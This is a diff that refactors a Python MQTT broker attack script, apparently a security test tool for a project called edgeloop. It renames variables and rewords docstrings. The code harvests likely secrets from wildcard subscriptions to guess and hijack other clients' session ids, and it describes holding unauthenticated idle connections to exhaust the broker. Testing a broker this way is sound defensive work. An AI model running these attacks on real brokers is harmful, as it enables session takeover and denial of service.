@@ -1,8 +1,8 @@
-"""Attacks the connections of others at a broker: ``broker_attacker.py ENROLMENT KIND``.
+"""Attacks on other clients' connections at a broker: ``broker_attacker.py ENROLMENT KIND``.
 
-``takeover``: reads all that this node's credentials let it read, takes every word of it that could be part of
-a client id, and connects again and again with the ids that it makes of them. ``idle``: holds `IDLE`
-connections that never say who they are, and opens each again when it is closed.
+``takeover``: subscribes to everything that a node's credentials can read, collects words that may be part of
+a client id, and repeatedly connects with ids made of them. ``idle``: holds `IDLE` connections that never
+authenticate, and reopens each one that is closed.
 """
 
 from __future__ import annotations
@@ -14,6 +14,7 @@ import sys
 import time
 from collections import Counter
 from contextlib import suppress
+from functools import partial
 from pathlib import Path
 
 import msgspec
@@ -28,13 +29,13 @@ IDLE = 1100
 LISTEN_S = 5.0
 PAUSE_S = 0.02
 WORDS_LIMIT = 20
-"""What is said most often is tried."""
+"""Most frequent words that are tried."""
 _WORD = re.compile(rb"[0-9a-f]{8,64}")
 _FRAME = b"\x28\xb5\x2f\xfd"
 
 
 def words_of(payload: bytes) -> list[str]:
-    """What may be a secret in a message; it is unpacked where it is packed."""
+    """Possible secrets in a message, decompressed if compressed."""
     start = payload.find(_FRAME)
     if start >= 0:
         with suppress(zstandard.ZstdError):
@@ -50,16 +51,20 @@ def client_of(enrolment: Enrolment, client_id: str = "") -> Client:
     return client
 
 
+def _subscribe(topic: str, client: Client, *_: object) -> None:
+    client.subscribe(topic, 1)
+
+
 def take_over(enrolment: Enrolment, victim: str) -> None:
-    heard: Counter[str] = Counter()
+    received: Counter[str] = Counter()
     for topic in ("#", "$SYS/#", "edgeloop/#"):  # A broker may end the connection for one of them.
         listener = client_of(enrolment)
-        listener.on_message = lambda _c, _u, message: heard.update(_heard(message))
-        listener.on_connect = lambda client, *_, topic=topic: client.subscribe(topic, 1)
+        listener.on_message = lambda _c, _u, message: received.update(_words_of_message(message))
+        listener.on_connect = partial(_subscribe, topic)
         listener.connect(enrolment.mqtt_host, enrolment.mqtt_port)
         listener.loop_start()
     time.sleep(LISTEN_S)
-    words = [word for word, _ in heard.most_common(WORDS_LIMIT)]
+    words = [word for word, _ in received.most_common(WORDS_LIMIT)]
     site = enrolment.site
     stems = [f"edgeloop:{site}:{victim}", f"edgeloop:{site}:{victim}:", "edgeloop-cloud-"]
     ids = [victim, f"{site}/{victim}", *stems, *words, *(stem + word for stem in stems for word in words)]
@@ -74,7 +79,7 @@ def take_over(enrolment: Enrolment, victim: str) -> None:
             time.sleep(PAUSE_S)
 
 
-def _heard(message: MQTTMessage) -> list[str]:
+def _words_of_message(message: MQTTMessage) -> list[str]:
     return words_of(message.topic.encode() + b" " + bytes(message.payload))
 
 
